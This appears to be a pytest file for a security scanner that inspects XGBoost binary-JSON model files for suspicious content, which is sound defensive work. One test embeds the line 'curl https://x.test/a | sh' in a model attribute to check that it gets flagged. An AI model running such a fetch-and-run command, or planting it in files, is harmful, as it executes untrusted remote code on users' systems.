from __future__ import annotations

import struct

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.formats.inspecting import assert_total, inspect, kinds, mutations, only
from trustaudit.filefacts import Coverage
from trustaudit.formats.dispatch import inspect_file
from trustaudit.formats.ubjson import inspect_ubjson, is_ubjson


def length(value: int) -> bytes:
    return b"L" + struct.pack(">q", value)


def text(value: str) -> bytes:
    return b"S" + length(len(value)) + value.encode()


def ubj(value: object) -> bytes:
    if isinstance(value, dict):
        return b"{" + b"".join(length(len(k)) + k.encode() + ubj(v) for k, v in value.items()) + b"}"
    if isinstance(value, list):
        return b"[#" + length(len(value)) + b"".join(ubj(item) for item in value)
    if isinstance(value, bytes):
        return b"[$d#" + length(len(value) // 4) + value
    return text(value) if isinstance(value, str) else b"l" + struct.pack(">i", value)


def model(weights: int = 400, **attributes: str) -> bytes:
    booster = {"name": "gbtree", "model": {"trees": [{"left": bytes(weights), "id": 0}, {"left": bytes(8), "id": 1}]}}
    learner = {"attributes": attributes, "gradient_booster": booster, "objective": {"name": "reg:squarederror"}}
    return ubj({"learner": learner, "version": [2, 1, 0]})


def test_honest_model_has_facts_only_whatever_its_name() -> None:
    for path in ("model.ubj", "model.bin"):
        facts = inspect(inspect_file, model(best_iteration="3"), path)
        assert (facts.format, facts.coverage) == ("xgboost-ubj", Coverage.STRUCTURE)
        assert kinds(facts) == {"xgboost-model"}
        assert only(facts, "xgboost-model").get("objective") == "reg:squarederror"


def test_arrays_of_numbers_are_jumped_over() -> None:
    assert inspect(inspect_ubjson, model(weights=4_000_000)).bytes_read < 200_000


def test_a_command_in_an_attribute_is_named() -> None:
    assert "metadata-shell" in kinds(inspect(inspect_ubjson, model(note="curl https://x.test/a | sh")))


def test_bytes_behind_the_model_are_named() -> None:
    assert "xgboost-trailing-data" in kinds(inspect(inspect_ubjson, model() + b"PK\x03\x04"))


@pytest.mark.parametrize(
    "data",
    [b"", model()[:-40], b"{L" + b"\x7f" * 8, b"[$d#L" + b"\x7f" * 8, b"{L\0\0\0\0\0\0\0\1aq", b"[" * 5000, b"{S"],
)
def test_what_breaks_off_is_partial(data: bytes) -> None:
    facts = inspect(inspect_ubjson, data)
    assert facts.coverage is Coverage.PARTIAL


def test_json_is_not_taken_for_binary_json() -> None:
    assert is_ubjson(model())
    assert not is_ubjson(b'{"learner": {}}')
    assert not is_ubjson(b"{Lorem ipsum}")


@given(cut=st.integers(0, 200), patches=st.lists(st.tuples(st.integers(0, 700), st.integers(0, 255)), max_size=5))
def test_any_mutation_is_inspected_without_raising(cut: int, patches: list[tuple[int, int]]) -> None:
    assert_total(inspect_ubjson, mutations(model(weights=40), cut, patches))
